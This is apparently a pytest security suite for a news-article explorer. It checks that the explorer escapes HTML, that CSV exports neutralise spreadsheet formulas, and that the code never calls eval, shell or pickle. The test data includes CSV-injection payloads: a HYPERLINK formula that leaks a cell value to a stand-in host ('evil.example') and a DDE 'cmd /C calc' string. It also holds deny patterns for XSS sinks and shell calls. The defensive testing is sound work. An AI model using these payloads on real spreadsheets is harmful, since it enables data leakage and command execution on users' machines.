"""Article text is untrusted: the explorer shows it as text, never as markup; every CSV sitrep
writes (store tables, the explorer's downloads, the ACLED export) neutralises spreadsheet
formulas in text cells and leaves numbers alone; the server is local and read-only by default;
and no code path hands article data to a shell, eval or pickle."""

from __future__ import annotations

import csv
import inspect
import io
import re
from datetime import date
from pathlib import Path

import duckdb
import pytest

from sitrep.export.csv_cells import FORMULA_STARTS, safe_cell
from sitrep.records import Document
from sitrep.store import Store
from tests.conftest import HOSTILE_TITLE, REPO
from tests.test_web_api import get, get_json

SRC = REPO / "src" / "sitrep"
FORMULA_TITLE = '=HYPERLINK("http://evil.example","Breaking")'
FORMULA_SOURCE = "+cmd|' /C calc'!A0"
FORMULA_TEXT = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Aleppo") Russian warplanes struck rebel '
    "positions in Aleppo on Monday, the Syrian army said.\n\n"
    "\"=cmd|' /C calc'!A0 is what we demand,\" the rebel commander said on Tuesday.\n\n"
    "@SUM(1+1) Turkish troops shelled Kurdish fighters near Afrin, Turkish officials said.\n\n"
    "-2+3 protesters gathered outside the White House in Washington on Wednesday.")


# --- the explorer ---------------------------------------------------------------------------

def test_page_scripts_never_parse_data_as_html():
    """The pages' own scripts put article data in the DOM as text nodes only."""
    sinks = re.compile(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|"
                       r"new Function|setAttribute\(\s*['\"]on|\.srcdoc\b|createContextualFragment")
    scripts = sorted((SRC / "web" / "static" / "js").glob("*.js"))
    assert len(scripts) >= 5
    comments = re.compile(r"(?m)^\s*//.*$|/\*.*?\*/", re.S)
    found = [(path.name, match.group(0)) for path in scripts
             for match in sinks.finditer(comments.sub("", path.read_text(encoding="utf-8")))]
    assert found == []


def test_hostile_article_stays_data_in_the_api_and_out_of_the_pages(web_server, web_store):
    doc_id = web_store["hostile_id"]
    status, headers, body = get(web_server, f"/api/documents/{doc_id}")
    assert status == 200 and headers["Content-Type"].startswith("application/json")
    assert headers["X-Content-Type-Options"] == "nosniff"  # never sniffed into HTML
    assert get_json(web_server, f"/api/documents/{doc_id}")["title"] == HOSTILE_TITLE
    for page in (f"/article/{doc_id}", "/search?q=pwned", "/map"):
        status, headers, body = get(web_server, page)
        assert status == 200 and b"__pwned" not in body and b"onerror" not in body, page
        assert "script-src 'self'" in headers["Content-Security-Policy"]
    status, headers, body = get(web_server, "/api/documents.csv?q=pwned")
    assert headers["Content-Type"].startswith("text/csv") and "attachment" in \
        headers["Content-Disposition"]
    assert "<script>" in body.decode()  # the title as written, for a spreadsheet: not HTML


def test_server_is_local_and_read_only_by_default(web_store):
    from sitrep.cli import serve
    from sitrep.web.app import make_server

    assert inspect.signature(make_server).parameters["host"].default == "127.0.0.1"
    assert inspect.signature(serve).parameters["host"].default == "127.0.0.1"
    server = make_server(str(web_store["path"]), port=0, quiet=True)
    try:
        assert server.server_address[0] == "127.0.0.1"
        with pytest.raises(duckdb.Error, match="read-only"):
            server.data.store.con.execute("CREATE TABLE pwned (x INTEGER)")
    finally:
        server.server_close()


# --- CSV exports ------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def formula_store(pipeline, voa_documents, tmp_path_factory):
    """VOA articles and one whose title, source, quote and event clauses begin with formulas,
    ingested with the knowledge base as `sitrep ingest` does."""
    from sitrep.kb import KBBuilder
    from sitrep.runner import IngestRun

    hostile = Document.from_text(FORMULA_TEXT, title=FORMULA_TITLE, source=FORMULA_SOURCE,
                                 published=date(2024, 12, 9))
    path = tmp_path_factory.mktemp("csv") / "formulas.duckdb"
    with Store(path) as store:
        run = IngestRun(store, pipeline=pipeline, show_progress=False,
                        knowledge_base=KBBuilder(store))
        assert run.ingest([*voa_documents, hostile]).failed == 0
    return path


def cells(path_or_text) -> list[dict]:
    text = path_or_text.read_text(encoding="utf-8") if isinstance(path_or_text, Path) \
        else path_or_text
    return list(csv.DictReader(io.StringIO(text)))


def assert_formula_safe(rows: list[dict], where: str) -> None:
    for row in rows:
        for column, value in row.items():
            if value and value.startswith(FORMULA_STARTS):
                float(value)  # only a plain number may start with + or -: else this raises


def test_every_csv_export_neutralises_formulas_and_keeps_numbers(formula_store, tmp_path):
    from sitrep.export import export_store
    from sitrep.export.kb import export_acled

    with Store(formula_store, read_only=True) as store:
        written = export_store(store, "csv", tmp_path)
        written.append(export_acled(store, tmp_path))
    tables = {path.stem: cells(path) for path in written}
    for name, rows in tables.items():
        assert_formula_safe(rows, name)
    titles = {row["title"] for row in tables["documents"]}
    assert "'" + FORMULA_TITLE in titles
    assert "'" + FORMULA_SOURCE in {row["source"] for row in tables["documents"]}
    assert any(row["text"].startswith("'=HYPERLINK") for row in tables["quotes"])
    assert any(row["text"].startswith("'=HYPERLINK") for row in tables["events"])
    assert any(row["notes"].startswith("'=HYPERLINK") for row in tables["events_acled"])
    # numbers stay numbers: Washington's longitude is negative and unprefixed
    longitudes = [float(row["lon"]) for row in tables["places"] if row["lon"]]
    assert min(longitudes) < -70
    assert all(not row["lon"].startswith("'") for row in tables["places"])


def test_explorer_downloads_neutralise_formulas(formula_store):
    from sitrep.web.api import handle_api
    from sitrep.web.data import make_data

    with Store(formula_store, read_only=True) as store:
        data = make_data(store)
        for name in ("documents", "events", "quotes"):
            content_type, body = handle_api(data, f"/api/{name}.csv", "")
            rows = cells(body.decode("utf-8"))
            assert rows and content_type.startswith("text/csv")
            assert_formula_safe(rows, name)
    assert any(value.startswith("'=") for row in rows for value in row.values() if value)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\uff1d1+1", "'\uff1d1+1"),
    ("-3.5", "-3.5"), ("+12", "+12"), ("-1e5", "-1e5"), ("Aleppo", "Aleppo"), ("", ""),
    ("a=1", "a=1"), ("-inf", "'-inf"),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


# --- no shell, eval or pickle anywhere ------------------------------------------------------------

def test_no_shell_eval_exec_or_pickle_in_the_code():
    """Nothing in sitrep runs text as code: no eval/exec, no shell, no subprocess, no
    unpickling (a model's `.eval()` method, a torch mode switch, is not Python's eval)."""
    forbidden = re.compile(
        r"(?<![.\w])(?:eval|exec|compile)\(|\bsubprocess\b|shell\s*=\s*True|\bos\.(?:system|"
        r"popen|exec\w*|spawn\w*)\b|\bpickle\b|\bmarshal\b|\bshelve\b|yaml\.load\(|"
        r"\bdill\b|\bjoblib\b|torch\.load\(")
    found = []
    for path in sorted(SRC.rglob("*.py")):
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            code = line.split("#", 1)[0]
            if forbidden.search(code):
                found.append(f"{path.relative_to(SRC)}:{number}: {line.strip()}")
    assert found == []
